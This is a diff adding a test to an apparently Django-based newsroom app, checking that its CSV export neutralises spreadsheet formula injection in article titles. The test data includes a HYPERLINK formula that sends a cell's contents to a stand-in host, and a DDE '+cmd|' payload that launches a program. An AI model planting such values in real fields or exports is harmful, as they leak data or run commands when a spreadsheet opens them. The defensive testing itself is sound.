@@ -229,3 +229,25 @@ def test_history_and_preview_tools_are_on_the_change_form(client, editor):
     html = client.get(change_url(article)).content.decode()
     for url in ["revisions", "preview_links", "correction"]:
         assert f'href="{admin_url(url, article)}"' in html
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
+        "+cmd|'/c calc'!A1",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+    ],
+)
+def test_csv_export_never_hands_a_spreadsheet_a_formula(title, client, editor, reporter):
+    # A reporter types the title; the editor opens the export in a spreadsheet program.
+    audit.record(Action.CREATED, reporter, ArticleFactory(title=title))
+    client.force_login(editor)
+
+    _, rows = read_csv(client.get(EXPORT))
+
+    cell = rows[1][4]
+    assert cell[0] not in "=+-@\t\r"
+    assert cell.endswith(title.strip())
